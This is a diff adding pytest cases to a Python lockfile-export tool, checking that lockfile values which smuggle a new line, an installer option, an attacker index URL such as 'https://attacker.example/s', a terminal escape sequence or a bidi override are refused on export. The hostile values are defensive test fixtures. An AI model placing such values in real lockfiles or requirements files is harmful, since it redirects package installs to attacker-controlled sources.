@@ -8,6 +8,7 @@ import json
 import platform
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -27,7 +28,7 @@ from support import envlock, host_env
 
 from envlock import api, lockfile
 from envlock.condamodel import CondaPackage, CondaSection
-from envlock.errors import UsageError
+from envlock.errors import LockfileError, UsageError
 from envlock.export import FORMATS, export
 from envlock.model import Environment, Lockfile, Package, Platform, Python, Source
 
@@ -343,6 +344,48 @@ def test_cli_errors(tmp_path: Path) -> None:
         assert done.stderr.count("\n") == 1 and message in done.stderr, done.stderr
     bad = envlock("export", "--to", "pipfile", str(example), cwd=tmp_path, env=host_env())
     assert bad.returncode == 2 and "invalid choice" in bad.stderr
+
+
+ZLIB = CondaPackage(name="zlib", version="1.3.1", build="h0_0", channel="conda-forge")
+HOSTILE = {
+    "a second line": _env(Package("six", "1.17.0\n--extra-index-url https://attacker.example/s")),
+    "an option for a name": _env(Package("--index-url=https://evil.example/", "1")),
+    "a path for a name": _env(Package("-e /etc", "1")),
+    "a commit with a line": _env(
+        Package("r", "1", source=Source(kind="vcs", vcs="git", url="https://h/r", commit="a\nb"))
+    ),
+    "a url with a space": _env(
+        Package("r", "1", source=Source(kind="archive", url="https://h/r.whl --trusted-host evil"))
+    ),
+    "an escape sequence": _env(Package("six\x1b]0;pwned\x07", "1")),
+    "a bidi override": _env(Package("six", "1\u202e0")),
+    "a conda build with a url": _env(
+        conda=CondaSection(packages=(replace(ZLIB, build="0\nhttps://attacker/evil-1-0.conda#"),))
+    ),
+    "a conda channel option": _env(conda=CondaSection(packages=(ZLIB,), channels=("--override",))),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_a_value_that_would_say_more_is_never_exported(case: str, fmt: str) -> None:
+    """A lockfile from a pull request: nothing in it may add a line, an option or a URL to
+    what an installer reads, or an escape sequence to a terminal."""
+    with pytest.raises(LockfileError, match="not exported"):
+        export(HOSTILE[case], fmt, name="linux-64")
+    with pytest.raises(LockfileError, match="not exported"):
+        export(_env(), fmt, name="x\n--index-url https://evil.example/")
+
+
+def test_cli_refuses_a_hostile_lockfile_in_one_line(tmp_path: Path) -> None:
+    path = tmp_path / "envlock.yaml"
+    api.dump(Lockfile(environments={"linux-64": HOSTILE["a second line"]}), path)
+    done = envlock("export", "--to", "requirements", str(path), cwd=tmp_path, env=host_env())
+    assert done.returncode == 2 and done.stdout == "", done.stdout
+    assert done.stderr.count("\n") == 1, done.stderr
+    assert done.stderr.startswith(
+        "envlock: error: envlock.yaml: environments.linux-64.packages.six"
+    )
 
 
 def _host_platform() -> Platform:
